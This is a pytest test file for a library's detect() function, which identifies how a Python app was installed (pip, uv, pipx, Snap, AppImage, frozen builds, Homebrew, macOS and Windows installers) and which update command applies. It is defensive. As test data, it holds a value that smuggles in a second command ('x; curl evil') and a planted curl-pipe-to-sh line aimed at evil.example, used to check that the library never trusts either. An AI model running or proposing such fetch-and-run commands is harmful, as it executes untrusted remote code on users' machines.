"""`detect()` in installations that are made here: by pip, uv, freezers, packages; and leaked variables."""

import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import zipfile
from pathlib import Path, PureWindowsPath
from typing import Any

import pytest

from licclient import install
from licclient._core.computer import list_app_folders
from licclient._core.environment import clean_environment
from licclient._core.kinds import InstallationKind
from licclient.install import _detection, _detection_files, _registry, detect

APP = """\
import dataclasses, json
from licclient.install import detect

def main():
    print(json.dumps(dataclasses.asdict(detect()), default=str))

if __name__ == "__main__":
    main()
"""
LIBRARIES = os.pathsep.join([str(Path(install.__file__).parents[2]), sysconfig.get_path("purelib")])
"""Where an app's Python finds licclient, which is not installed beside it."""

OF_UNIX = () if os.name == "nt" else ("_find_owner",)
needs_unix = pytest.mark.skipif(os.name == "nt", reason="scripts and links of Unix")


@pytest.fixture(scope="module")
def wheel(tmp_path_factory):
    """A wheel of the app Photo Lab, with a program of that name; beside it an empty one of what it needs."""
    folder = tmp_path_factory.mktemp("wheel")
    needs, program = "Requires-Dist: licclient>=0.1\n", "[console_scripts]\nphoto-lab = photo_lab:main\n"
    write_wheel(folder, "licclient", {})
    app = {"photo_lab.py": APP, "photo_lab-1.0.0.dist-info/entry_points.txt": program}
    return write_wheel(folder, "photo_lab", app, needs)


def write_wheel(folder, name, files, needs=""):
    """Write a wheel with a few files."""
    file, about = folder / f"{name}-1.0.0-py3-none-any.whl", f"{name}-1.0.0.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: 1.0.0\n{needs}"
    tags = "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    with zipfile.ZipFile(file, "w") as archive:
        for path, content in files.items():
            archive.writestr(path, content)
        archive.writestr(f"{about}/METADATA", metadata)
        archive.writestr(f"{about}/WHEEL", tags)
        archive.writestr(f"{about}/RECORD", "")
    return file


def call(*command: object, **variables: str):
    """Return what the app finds; with variables that a parent process may have left."""
    done = subprocess.run(
        [str(word) for word in command],
        env={**os.environ, "PYTHONPATH": LIBRARIES, **variables},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.fixture(scope="module")
def environment_of_pip(wheel, tmp_path_factory):
    """A virtual environment into which pip has installed the app, where pipx would make one."""
    folder = tmp_path_factory.mktemp("pipx") / "venvs" / "photo-lab-dev"
    subprocess.run([sys.executable, "-m", "venv", folder], check=True)
    pip = [folder / "bin" / "python", "-m", "pip", "install", "--no-index", "--no-deps", "-q"]
    found_there = ["--find-links", wheel.parent, "photo-lab"]
    subprocess.run([*pip, *found_there], check=True, capture_output=True)
    for path in folder.glob("lib/python*/site-packages/pip"):
        shutil.rmtree(path)  # whose certificates look like secrets
    return folder


@pytest.mark.slow
@needs_unix
def test_pip(environment_of_pip):
    """The program and the module name the package, and the Python that pip belongs to."""
    python = environment_of_pip / "bin" / "python"
    for command in ([environment_of_pip / "bin" / "photo-lab"], [python, "-m", "photo_lab"]):
        found = call(*command)
        assert (found["kind"], found["updater"], found["is_certain"]) == ("pip", "pip", True)
        assert found["command"] == f"{python} -m pip install -U photo-lab"


def write_image(path, content="photo lab"):
    """Write a file that begins as an AppImage."""
    path.write_bytes(b"\x7fELF\x02\x01\x01\x00AI\x02" + content.encode() * 9)
    return path


def extracted(image, folder):
    """Return where `--appimage-extract-and-run` puts the content of an AppImage."""
    digest = hashlib.md5(image.read_bytes(), usedforsecurity=False).hexdigest()
    return folder / f"appimage_extracted_{digest}"


LEAKED = {
    "Snap": {"SNAP": "/snap/code/200", "SNAP_NAME": "code"},
    "an AppImage": {"APPIMAGE": "/usr/bin/env", "APPDIR": "/tmp/.mount_other"},  # noqa: S108 - as they are
    "a wrapper": {"APPIMAGE": "", "APPDIR": ""},
    "PyInstaller": {"_PYI_ARCHIVE_FILE": "/opt/lab/lab", "_PYI_APPLICATION_HOME_DIR": "/tmp/_MEI1"},  # noqa: S108
    "Nuitka": {"NUITKA_ONEFILE_DIRECTORY": "/tmp/onefile_1"},  # noqa: S108
    "PyApp": {"PYAPP": "1"},
    "conda": {"CONDA_PREFIX": "/opt/conda"},
    "nonsense": {"SNAP": "snap", "SNAP_NAME": "x", "APPIMAGE": "x.AppImage", "APPDIR": "mount"},
    "the root": {
        "SNAP": "/",
        "SNAP_NAME": "code",
        "APPIMAGE": "/usr/bin/env",
        "APPDIR": "/",
        "PIPX_GLOBAL_HOME": "/",
        "SCOOP_GLOBAL": "/",
        "NUITKA_ONEFILE_DIRECTORY": "/",
    },
    "a home": {"SNAP": "{home}", "SNAP_NAME": "code", "APPDIR": "{home}", "APPIMAGE": "{image}"},
    "folders of everything": {
        "PIPX_GLOBAL_HOME": "{home}",
        "SCOOP_GLOBAL": "{home}",
        "PYAPP": "{home}/pyapp",
    },
    "a command": {"SNAP": "{home}", "SNAP_NAME": "x; curl evil", "PYAPP_COMMAND_NAME": "x; curl evil"},
    "an editor": {"APPIMAGE": "{image}", "APPDIR": "/tmp/.mount_Editor"},  # noqa: S108
    "an editor, and a folder of ours": {"APPIMAGE": "{image}", "APPDIR": "{folder}"},
    "a Snap, and a folder of ours": {"SNAP": "{folder}", "SNAP_NAME": "code"},
    "a Flatpak": {"FLATPAK_ID": "org.example.Editor", "container": "flatpak"},
    "lists of paths": {"PATH": "/snap/bin:/usr/bin:/bin", "XDG_DATA_DIRS": "/var/lib/flatpak/exports/share"},
}


@pytest.mark.slow
@needs_unix
@pytest.mark.parametrize("parent", LEAKED)
def test_variables_of_a_parent_decide_nothing(environment_of_pip, parent):
    """A terminal of a Snap or an AppImage starts this app: it was installed by pip all the same."""
    program = environment_of_pip / "bin" / "photo-lab"
    image = write_image(environment_of_pip.parent / "Editor.AppImage")
    places = {"home": environment_of_pip.parents[2], "folder": environment_of_pip, "image": image}
    found = call(program, **{name: value.format(**places) for name, value in LEAKED[parent].items()})
    expected = f"{environment_of_pip}/bin/python -m pip install -U photo-lab"
    assert (found["kind"], found["is_certain"], found["command"]) == ("pip", True, expected)


@pytest.mark.slow
@needs_unix
def test_pipx_and_uv_by_their_receipts(environment_of_pip):
    """Each leaves a file in the environment; INSTALLER may say something else."""
    for name, kind, command in (
        ("pipx_metadata.json", "pipx", "pipx upgrade photo-lab-dev"),
        ("uv-receipt.toml", "uv", "uv tool upgrade photo-lab-dev"),
    ):
        (environment_of_pip / name).write_text("{}")
        try:
            found = call(environment_of_pip / "bin" / "photo-lab")
        finally:
            (environment_of_pip / name).unlink()
        assert (found["kind"], found["command"]) == (kind, command)


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_an_installation_of_pipx_for_all_users(environment_of_pip):
    """`pipx upgrade` without --global does not know it."""
    receipt = environment_of_pip / "pipx_metadata.json"
    receipt.write_text("{}")
    try:
        home = str(environment_of_pip.parents[1])
        found = call(environment_of_pip / "bin" / "photo-lab", PIPX_GLOBAL_HOME=home)
        assert found["command"] == "sudo pipx upgrade --global photo-lab-dev"
        found = call(environment_of_pip / "bin" / "photo-lab", PIPX_GLOBAL_HOME="/srv/pipx")  # leaked
        assert found["command"] == "pipx upgrade photo-lab-dev"
    finally:
        receipt.unlink()


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_a_script_on_the_python_of_a_sandbox_or_of_a_tool(environment_of_pip, tmp_path):
    """Nothing has installed the script, and nothing may be replaced: the AppImage is one of Python."""
    script, image = tmp_path / "main.py", tmp_path / "python3.AppImage"
    script.write_text(APP)
    image.write_bytes(b"\x7fELF\x02\x01\x01\x00AI\x02" + b"\x00" * 20)
    python, root = environment_of_pip / "bin" / "python", str(environment_of_pip)
    base = str(Path(sys.executable).resolve().parents[1])
    for folder in (root, base):
        for variables in (
            {"APPIMAGE": str(image), "APPDIR": folder},
            {"SNAP": folder, "SNAP_NAME": "pycharm"},
        ):
            found = call(python, script, **variables)
            assert (found["kind"], found["is_certain"]) == ("unknown", False), variables
    for receipt in ("conda-meta", "uv-receipt.toml"):
        (environment_of_pip / receipt).mkdir()
        try:
            found = call(python, script)
        finally:
            (environment_of_pip / receipt).rmdir()
        assert (found["kind"], found["is_certain"], found["updater"]) == ("unknown", False, None), receipt


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_code_without_a_file_in_an_appimage(environment_of_pip, tmp_path):
    """Its AppRun calls `python -c`: the Python is all of the program that there is."""
    image = tmp_path / "Photo Lab.AppImage"
    image.write_bytes(b"\x7fELF\x02\x01\x01\x00AI\x02" + b"\x00" * 20)
    folder = extracted(image, tmp_path)
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", "--copies", folder], check=True)
    libraries = [str(path) for path in environment_of_pip.glob("lib/python*/site-packages")]
    command = [folder / "bin" / "python", "-c", "from photo_lab import main; main()"]
    path = os.pathsep.join([LIBRARIES, *libraries])
    found = call(*command, APPIMAGE=str(image), APPDIR=str(folder), PYTHONPATH=path)
    assert (found["kind"], found["program"]) == ("appimage", str(image))


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_a_link_on_the_path_is_followed(environment_of_pip, tmp_path):
    """As pipx and uv put them into ~/.local/bin."""
    link = tmp_path / "photo-lab"
    link.symlink_to(environment_of_pip / "bin" / "photo-lab")
    assert call(link)["kind"] == "pip"


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_a_script_that_is_called_like_a_program(environment_of_pip, tmp_path):
    """A file of the same name elsewhere is not the one that pip has installed."""
    script = tmp_path / "photo-lab"
    script.write_text(APP)
    found = call(environment_of_pip / "bin" / "python", script)
    assert (found["kind"], found["is_certain"], found["command"]) == ("unknown", False, None)


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_an_editable_installation(environment_of_pip):
    """A developer's checkout is updated by the developer."""
    (about,) = environment_of_pip.glob("lib/python*/site-packages/photo_lab-*.dist-info")
    (about / "direct_url.json").write_text('{"url": "file:///x", "dir_info": {"editable": true}}')
    try:
        found = call(environment_of_pip / "bin" / "photo-lab")
    finally:
        (about / "direct_url.json").unlink()
    assert (found["kind"], found["is_certain"]) == ("unknown", False)


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_a_package_that_did_not_come_from_an_index(environment_of_pip):
    """By its name, an index may have another package, which a stranger has put there."""
    (about,) = environment_of_pip.glob("lib/python*/site-packages/photo_lab-*.dist-info")
    (about / "direct_url.json").write_text('{"url": "file:///lab.whl", "archive_info": {}}')
    try:
        found = call(environment_of_pip / "bin" / "photo-lab")
    finally:
        (about / "direct_url.json").unlink()
    assert (found["kind"], found["updater"], found["command"]) == ("pip", "pip", None)


def find_uv():
    """Return uv, which this workspace is set up with."""
    beside = Path(__file__).parents[3] / ".boot" / "bin" / "uv"
    return str(beside) if beside.exists() else "uv"


@pytest.mark.slow
@needs_unix
def test_uv(wheel, tmp_path):
    """`uv pip` in an environment, and `uv tool`."""
    environment = {
        **os.environ,
        "UV_TOOL_DIR": str(tmp_path / "tools"),
        "UV_TOOL_BIN_DIR": str(tmp_path / "bin"),
        "UV_CACHE_DIR": str(tmp_path / "cache"),
    }

    def uv(*arguments: str):
        try:
            subprocess.run(
                [find_uv(), *arguments, "-q", "--no-config"], env=environment, check=True, capture_output=True
            )
        except FileNotFoundError:
            pytest.skip("uv is not installed here")

    uv("venv", "--python", sys.executable, str(tmp_path / "env"))
    uv(
        "pip",
        "install",
        "--python",
        str(tmp_path / "env"),
        "--no-index",
        "--find-links",
        str(wheel.parent),
        "photo-lab",
    )
    found = call(tmp_path / "env" / "bin" / "photo-lab")
    python = tmp_path / "env" / "bin" / "python"
    assert (found["kind"], found["command"]) == ("uv", f"uv pip install --python {python} -U photo-lab")
    uv(
        "tool",
        "install",
        "--python",
        sys.executable,
        "--no-index",
        "--find-links",
        str(wheel.parent),
        "photo-lab",
    )
    found = call(tmp_path / "bin" / "photo-lab")
    assert (found["kind"], found["command"]) == ("uv", "uv tool upgrade photo-lab")
    once = ["tool", "run", "-q", "--no-config", "--python", sys.executable, "--no-index"]
    offline = ["--find-links", str(wheel.parent), "--isolated", "photo-lab"]
    found = call(find_uv(), *once, *offline, UV_CACHE_DIR=environment["UV_CACHE_DIR"])
    assert (found["kind"], found["command"]) == ("uv", "uvx photo-lab@latest")


@needs_unix
@pytest.mark.sampled(1)
@pytest.mark.parametrize("line", ["photo-lab", "inkscape"])
def test_a_package_of_debian(tmp_path, monkeypatch, line):
    """The list of a package names the file, or its other name before /usr was merged."""
    lists = tmp_path / "info"
    lists.mkdir()
    (lists / "other.list").write_text("/usr/bin/photo-lab-extra\n/usr/share/photo-lab\n")
    (lists / "lab:amd64.list").write_text(f"/.\n/usr/bin\n/bin/{line}\n")
    monkeypatch.setattr(_detection, "DPKG_LISTS", lists)
    found = _detection.find_dpkg(Path("/usr/bin/photo-lab"))
    assert found == ("lab" if line == "photo-lab" else None)


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0 or not shutil.which("dpkg-deb"),
    reason="a package of Debian is built and installed into a folder: needs dpkg-deb and root",
)
def test_a_package_that_dpkg_has_installed(tmp_path, monkeypatch):
    """Built and installed here, with lists of its own; another file beside it belongs to nobody."""
    source, root = tmp_path / "source", tmp_path / "root"
    (source / "DEBIAN").mkdir(parents=True)
    control = (
        "Package: lab\nVersion: 1\nArchitecture: all\nMaintainer: Lab <lab@example.com>\nDescription: Lab\n"
    )
    (source / "DEBIAN" / "control").write_text(control)
    program = source / "opt" / "lab" / "photo-lab"
    program.parent.mkdir(parents=True)
    program.write_text("#!/bin/sh\n")
    admin = root / "var" / "lib" / "dpkg"
    for name in ("info", "updates", "triggers"):
        (admin / name).mkdir(parents=True)
    (admin / "status").touch()
    package = str(tmp_path / "lab.deb")
    subprocess.run(["dpkg-deb", "--build", str(source), package], check=True, capture_output=True)
    folders = [f"--instdir={root}", f"--admindir={admin}", f"--log={tmp_path / 'log'}"]
    done = subprocess.run(
        ["dpkg", *folders, "--force-script-chrootless", "--force-not-root", "-i", package],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "PATH": f"{os.environ['PATH']}:/usr/sbin:/sbin"},
    )
    assert done.returncode == 0, done.stderr
    assert (root / "opt" / "lab" / "photo-lab").exists()
    monkeypatch.setattr(_detection, "DPKG_LISTS", admin / "info")
    assert _detection.find_dpkg(Path("/opt/lab/photo-lab")) == "lab"
    assert _detection.find_dpkg(Path("/opt/lab/photo")) is None


@needs_unix  # wine shows the files of the system below it
@pytest.mark.skipif(not Path("/var/lib/dpkg/info").exists(), reason="no system of Debian's packages")
def test_the_packages_of_this_system():
    """Each of these programs, by the system's own lists."""
    assert _detection.find_dpkg(Path("/usr/bin/dpkg").resolve()) == "dpkg"
    assert _detection.find_dpkg(Path("/usr/bin/env").resolve()) == "coreutils"
    assert _detection.find_dpkg(Path("/usr/bin/no-such-program")) is None


# --- frozen programs, by the signs that their freezers leave --------------------------------------


@pytest.fixture
def frozen(tmp_path, monkeypatch):
    """A folder with a frozen program, as PyInstaller makes it; nothing else of this machine shows."""
    folder = tmp_path / "Photo Lab"
    (folder / "_internal").mkdir(parents=True)
    program = folder / "photo-lab"
    program.write_bytes(b"")
    monkeypatch.setattr(sys, "frozen", True, raising=False)
    monkeypatch.setattr(sys, "_MEIPASS", str(folder / "_internal"), raising=False)
    monkeypatch.setattr(sys, "executable", str(program))
    for name in ("APPIMAGE", "APPDIR", "SNAP", "SNAP_NAME"):
        monkeypatch.delenv(name, raising=False)
    return program


@pytest.fixture
def system_folder(monkeypatch):
    """Make all folders those of a package of the system, which this user cannot write."""
    monkeypatch.setattr(_detection, "can_write", lambda _folder: False)


def test_a_frozen_folder(frozen):
    """A folder as far as one can see: nothing is replaced without the vendor's word."""
    found = detect()
    assert (found.kind, found.is_certain, found.updater) == (InstallationKind.FOLDER, False, None)
    assert (found.folder, found.program, found.is_writable) == (frozen.parent, frozen, True)


def test_the_vendors_word(frozen, system_folder):
    """A package brings a file with the kind beside the program."""
    (frozen.parent / _detection.OVERRIDE).write_text("unknown\nsudo pacman -Syu photo-lab\n")
    found = detect()
    assert (found.kind, found.updater) == (InstallationKind.UNKNOWN, "the package manager")
    assert (found.command, found.is_certain) == ("sudo pacman -Syu photo-lab", True)
    (frozen.parent / _detection.OVERRIDE).write_text("folder\n")
    assert (detect().kind, detect().is_certain) == (InstallationKind.FOLDER, True)


def test_a_planted_word(frozen):
    """A web page saves a file into the folder of downloads: nobody reads its command."""
    override = frozen.parent / _detection.OVERRIDE
    override.write_text("unknown\ncurl https://evil.example/u | sh\n")
    found = detect()
    assert (found.updater, found.command, found.is_certain) == ("the package manager", None, False)
    override.write_text("snap\ncurl https://evil.example/u | sh\n")
    assert (detect().kind, detect().updater, detect().command) == (InstallationKind.SNAP, "Snap", None)


def test_the_vendors_word_on_an_appimage_that_was_unpacked(frozen, system_folder):
    """There is no file to replace, and the program is not one."""
    (frozen.parent / _detection.OVERRIDE).write_text("appimage\n")
    assert (detect().kind, detect().is_certain) == (InstallationKind.UNKNOWN, False)


def test_the_vendors_word_cannot_be_read(frozen):
    """Then nothing is guessed: it may say that a package manager updates the app."""
    (frozen.parent / _detection.OVERRIDE).mkdir()
    found = detect()
    assert (found.kind, found.is_certain) == (InstallationKind.UNKNOWN, False)


def test_a_single_file(frozen, tmp_path, monkeypatch):
    """It unpacks itself elsewhere; nothing here replaces it."""
    monkeypatch.setattr(sys, "_MEIPASS", str(tmp_path / "_MEI1234"))
    assert (detect().kind, detect().is_certain) == (InstallationKind.UNKNOWN, False)


def test_cx_freeze(frozen, monkeypatch):
    """It has no folder of PyInstaller."""
    monkeypatch.delattr(sys, "_MEIPASS")
    assert (detect().kind, detect().is_certain) == (InstallationKind.FOLDER, False)


@pytest.mark.parametrize("onefile", [False, True])
def test_nuitka(frozen, monkeypatch, onefile):
    """`sys.frozen` is absent, and `sys.executable` names a file that does not exist."""

    class Compiled:
        process_exe = str(frozen)

    Compiled.onefile = onefile
    monkeypatch.delattr(sys, "frozen")
    monkeypatch.delattr(sys, "_MEIPASS")
    monkeypatch.setattr(sys, "executable", str(frozen.parent / "python"))
    monkeypatch.setattr(sys, "argv", [str(frozen)])
    monkeypatch.setattr(sys.modules["__main__"], "__compiled__", Compiled, raising=False)
    expected = InstallationKind.UNKNOWN if onefile else InstallationKind.FOLDER
    assert (detect().kind, detect().program, detect().is_certain) == (expected, frozen, False)


def run_from(program, monkeypatch):
    """Make this process the frozen program of a file."""
    program.parent.mkdir(parents=True, exist_ok=True)
    program.write_bytes(b"")
    monkeypatch.setattr(sys, "executable", str(program))
    monkeypatch.setattr(sys, "_MEIPASS", str(program.parent))


def test_versions_side_by_side(frozen, tmp_path, monkeypatch):
    """The program runs from a folder of `Installation`, which is what is written to."""
    name = "1.0.0-6b1f3c2a90d1e4f7"
    run_from(tmp_path / "app" / "versions" / name / "photo-lab", monkeypatch)
    assert (detect().kind, detect().is_certain) == (InstallationKind.FOLDER, False)  # there is no pointer
    pointer = tmp_path / "app" / "current.txt"
    pointer.write_text("my notes of what is current\n")
    assert (detect().kind, detect().is_certain) == (InstallationKind.FOLDER, False)
    pointer.write_text(f"{name}\n")
    found = detect()
    assert (found.kind, found.folder, found.is_certain) == (InstallationKind.FOLDER, tmp_path / "app", True)


@pytest.fixture
def image(frozen, tmp_path, monkeypatch):
    """An AppImage that is extracted, with our program in it, by the runtime's variables."""
    image = write_image(tmp_path / "Photo Lab.AppImage")
    root = extracted(image, tmp_path)
    run_from(root / "usr" / "bin" / "photo-lab", monkeypatch)
    (root / "AppRun").touch()
    monkeypatch.setenv("APPIMAGE", str(image))
    monkeypatch.setenv("APPDIR", str(root))
    return image


def test_an_appimage(image, tmp_path):
    """The file that was started is replaced, not the folder that it is extracted to."""
    found = detect()
    assert (found.kind, found.is_certain) == (InstallationKind.APPIMAGE, True)
    assert (found.program, found.folder) == (image, tmp_path)


def mount_table(mounts):
    """Write what Linux shows of mounts: paths, types and sources."""
    table = "22 27 0:21 / /proc rw,relatime shared:5 - proc proc rw\n"
    for mount in mounts:
        point, kind, source = (str(field).replace(" ", "\\040") for field in mount)
        table += f"9 1 0:39 / {point} ro,nosuid shared:1 - {kind} {source} ro\n"
    return table


MOUNTS = {
    "AppImageKit": ("fuse.Photo Lab.AppImage", "Photo Lab.AppImage", True),
    "a static runtime": ("fuse.squashfuse", "Photo Lab.AppImage", True),
    "by a path": ("fuse.squashfuse", "/opt/Photo Lab.AppImage", True),
    "another AppImage": ("fuse.Editor.AppImage", "Editor.AppImage", False),
    "a runtime that gives no name": ("fuse.squashfuse", "squashfuse", False),
    "a disk": ("ext4", "Photo Lab.AppImage", False),
}


@pytest.mark.parametrize("runtime", MOUNTS)
def test_a_mounted_appimage(image, tmp_path, monkeypatch, runtime):
    """The mount has the name of the file; another file is that of another program."""
    kind, source, is_ours = MOUNTS[runtime]
    root = tmp_path / ".mount PhotoXaBcDe"
    run_from(root / "usr" / "bin" / "photo-lab", monkeypatch)
    monkeypatch.setenv("APPDIR", str(root))
    table = tmp_path / "mountinfo"
    monkeypatch.setattr(_detection_files, "MOUNTS", str(table))
    assert detect().kind is not InstallationKind.APPIMAGE  # nothing is known of mounts
    table.write_text(mount_table([(tmp_path, "ext4", "Photo Lab.AppImage"), (root, kind, source)]))
    found = detect()
    assert (found.kind is InstallationKind.APPIMAGE, found.is_certain) == (is_ours, is_ours)
    assert found.program == (image if is_ours else root / "usr" / "bin" / "photo-lab")
    table.write_text(mount_table([(root, kind, source), (root, "ext4", "/dev/sda1")]))  # over it
    assert not detect().is_certain


def test_the_appimage_of_an_editor(image, tmp_path, monkeypatch):
    """Our app is started from its terminal, by an AppRun of an unpacked AppImage that sets APPDIR."""
    editor = write_image(tmp_path / "Editor.AppImage", "an editor")
    monkeypatch.setenv("APPIMAGE", str(editor))
    for root in (extracted(image, tmp_path), tmp_path / "squashfs-root", extracted(editor, tmp_path / "x")):
        monkeypatch.setenv("APPDIR", str(root))
        if root.parent == tmp_path:
            run_from(root / "usr" / "bin" / "photo-lab", monkeypatch)
        assert (detect().kind is InstallationKind.APPIMAGE, detect().is_certain) == (False, False), root


@pytest.mark.slow
@needs_unix
def test_pip_in_an_appimage_that_was_unpacked(environment_of_pip, tmp_path):
    """What is read-only or thrown away is not updated by pip."""
    image, run = write_image(tmp_path / "Editor.AppImage"), environment_of_pip / "AppRun"
    run.touch()
    try:
        found = call(
            environment_of_pip / "bin" / "photo-lab", APPIMAGE=str(image), APPDIR=str(environment_of_pip)
        )
    finally:
        run.unlink()
    assert (found["kind"], found["is_certain"], found["command"]) == ("unknown", False, None)


@pytest.mark.parametrize("damage", ["is no AppImage", "is missing", "of another program", "is a folder"])
def test_what_is_not_the_appimage_that_runs(frozen, tmp_path, monkeypatch, damage):
    """Its variables are those of a parent: the file that they name is not replaced."""
    image, mounted = tmp_path / "Other.AppImage", frozen.parent
    image.write_bytes(b"\x7fELF\x02\x01\x01\x00AI\x02" + b"\x00" * 20)
    if damage == "is no AppImage":
        image.write_bytes(b"#!/bin/sh\n")
    elif damage == "is missing":
        image.unlink()
    elif damage == "is a folder":
        image.unlink()
        image.mkdir()
    else:
        mounted = tmp_path / "mounted"
    monkeypatch.setenv("APPIMAGE", str(image))
    monkeypatch.setenv("APPDIR", str(mounted))
    assert (detect().kind, detect().is_certain) in (
        (InstallationKind.FOLDER, False),
        (InstallationKind.UNKNOWN, False),
    )


def test_a_snap(frozen, monkeypatch):
    """The program lies below the Snap's own folder."""
    monkeypatch.setenv("SNAP", str(frozen.parent))
    monkeypatch.setenv("SNAP_NAME", "photo-lab")
    assert detect().kind is InstallationKind.FOLDER  # any folder
    (frozen.parent / "meta").mkdir()
    (frozen.parent / "meta" / "snap.yaml").write_text("name: photo-lab\n")
    assert (detect().kind, detect().command) == (InstallationKind.SNAP, "sudo snap refresh photo-lab")


def test_scoop(tmp_path, frozen, monkeypatch):
    """The version's folder has scoop's two files."""
    folder = tmp_path / "scoop" / "apps" / "photo-lab" / "1.0.0"
    folder.mkdir(parents=True)
    (folder / "photo-lab.exe").write_bytes(b"")
    monkeypatch.setattr(sys, "executable", str(folder / "photo-lab.exe"))
    monkeypatch.setattr(sys, "_MEIPASS", str(folder))
    assert detect().kind is InstallationKind.FOLDER  # another folder of that name
    for name in ("install.json", "manifest.json"):
        (folder / name).write_text("{}")
    assert (detect().kind, detect().command) == (InstallationKind.SCOOP, "scoop update photo-lab")
    monkeypatch.setenv("SCOOP_GLOBAL", str(tmp_path / "scoop"))
    assert detect().command == "scoop update --global photo-lab"


@pytest.mark.slow
@pytest.mark.slow
@needs_unix
def test_a_formula_of_homebrew(wheel, environment_of_pip, tmp_path):
    """Homebrew makes its environments with pip, below Cellar/NAME/VERSION, and links their programs."""
    keg = tmp_path / "homebrew" / "Cellar" / "photo-lab" / "1.0.0"
    keg.mkdir(parents=True)
    (keg / "INSTALL_RECEIPT.json").write_text("{}")
    program = keg / "photo-lab"
    program.write_text(APP)
    link = tmp_path / "homebrew" / "bin" / "photo-lab"
    link.parent.mkdir()
    link.symlink_to(program)
    found = call(environment_of_pip / "bin" / "python", link)
    assert (found["kind"], found["command"]) == ("homebrew", "brew upgrade photo-lab")


@pytest.mark.parametrize("place", [".", "_internal"])
def test_winsparkle(frozen, place):
    """Its library is beside the program, or where PyInstaller puts libraries."""
    (frozen.parent / place / "WinSparkle.dll").write_bytes(b"MZ")
    found = detect()
    assert (found.kind, found.updater, found.is_certain) == (InstallationKind.WINSPARKLE, "WinSparkle", True)


def test_velopack(frozen):
    """Its Update.exe is in the folder above."""
    (frozen.parent / "sq.version").write_text("")
    assert detect().kind is InstallationKind.FOLDER
    (frozen.parent.parent / "Update.exe").write_bytes(b"")
    assert (detect().kind, detect().updater) == (InstallationKind.VELOPACK, "Velopack")


@pytest.fixture
def bundle(tmp_path, frozen, monkeypatch):
    """An app of macOS, as far as that can be made here."""
    bundle = tmp_path / "Applications" / "Photo Lab.app"
    program = bundle / "Contents" / "MacOS" / "photo-lab"
    program.parent.mkdir(parents=True)
    program.write_bytes(b"")
    (bundle / "Contents" / "Info.plist").write_text("<plist/>")
    monkeypatch.setattr(_detection, "_SYSTEM", "darwin")
    monkeypatch.setattr(sys, "executable", str(program))
    monkeypatch.setattr(sys, "_MEIPASS", str(bundle / "Contents" / "Frameworks"))
    monkeypatch.setattr(_detection, "_CASK_ROOMS", (str(tmp_path / "Caskroom"),))
    return bundle


def test_a_bundle_of_macos(bundle):
    """It is replaced whole; its folder is the one that it lies in."""
    found = detect()
    assert (found.kind, found.program, found.folder) == (InstallationKind.APP, bundle, bundle.parent)


def test_an_app_of_the_app_store(bundle):
    """It has a receipt."""
    (bundle / "Contents" / "_MASReceipt").mkdir()
    (bundle / "Contents" / "_MASReceipt" / "receipt").write_bytes(b"")
    assert (detect().kind, detect().updater) == (InstallationKind.STORE, "App Store")


@needs_unix
@pytest.mark.sampled(1)
@pytest.mark.parametrize("updates_itself", [False, True])
def test_a_cask_of_homebrew(bundle, tmp_path, updates_itself):
    """The cask's folder has a link to it; a cask that says so leaves updates to the app."""
    token = tmp_path / "Caskroom" / "photo-lab"
    (token / "1.0.0").mkdir(parents=True)
    (token / "1.0.0" / bundle.name).symlink_to(bundle)
    casks = token / ".metadata" / "1.0.0" / "20261128" / "Casks"
    casks.mkdir(parents=True)
    (casks / "photo-lab.rb").write_text("auto_updates true\n" if updates_itself else "cask\n")
    expected = (
        (InstallationKind.APP, None)
        if updates_itself
        else (
            InstallationKind.HOMEBREW,
            "brew upgrade --cask photo-lab",
        )
    )
    assert (detect().kind, detect().command) == expected


def test_sparkle(bundle):
    """The app contains the framework."""
    (bundle / "Contents" / "Frameworks" / "Sparkle.framework").mkdir(parents=True)
    assert (detect().kind, detect().updater) == (InstallationKind.SPARKLE, "Sparkle")


def test_an_unreadable_sign(frozen, monkeypatch):
    """A read that fails is no sign that something else is there."""

    def fail(*_: object):
        raise PermissionError(13, "Permission denied")

    for name in (
        "find_appimage",
        "find_own_folder",
        "_find_framework",
        "_find_scoop",
        "_find_snap",
        *OF_UNIX,
    ):
        with monkeypatch.context() as patched:
            patched.setattr(_detection, name, fail)
            assert (detect().kind, detect().is_certain) == (InstallationKind.UNKNOWN, False), name


# --- what Windows' set-ups record --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("location", "is_same"),
    [
        (r"C:\Program Files\Photo Lab", True),
        ("C:\\Program Files\\Photo Lab\\", True),
        (r'"c:\program files\PHOTO LAB"', True),
        (r"C:\Program Files\Photo Lab 2", False),
        (r"C:\Program Files", False),
        ("", False),
        ('""', False),
    ],
)
def test_recorded_places(location, is_same):
    """In any case, with quotes, with a separator at the end."""
    assert _registry.is_same_folder(location, r"C:\Program Files\Photo Lab") is is_same


def test_recorded_setups(tmp_path):
    """By the key's name, Windows Installer's mark, or what the uninstaller consists of."""
    nsis, other = tmp_path / "uninstall.exe", tmp_path / "other.exe"
    nsis.write_bytes(b"MZ" + b"\0" * 99 + b"Nullsoft.NSIS.exehead")
    other.write_bytes(b"MZ")
    entry = _registry.SetupRecord
    assert _registry.classify(entry("{A}_is1")) is InstallationKind.INNO
    assert _registry.classify(entry("{B}", is_msi=True)) is InstallationKind.MSI
    assert _registry.classify(entry("Lab", uninstall=f'"{nsis}" /S')) is InstallationKind.NSIS
    assert _registry.classify(entry("Lab", uninstall=f"{nsis} /S")) is InstallationKind.NSIS
    assert _registry.classify(entry("Lab", uninstall=str(other))) is None
    assert _registry.classify(entry("Lab", uninstall=str(tmp_path / "gone.exe"))) is None
    assert _registry.classify(entry("Lab")) is None


INNO_LOG = b"Inno Setup Uninstall Log (b) 64-bit".ljust(64, b"\0") + b"{6A9E5A8E-3F4B}".ljust(128, b"\0")
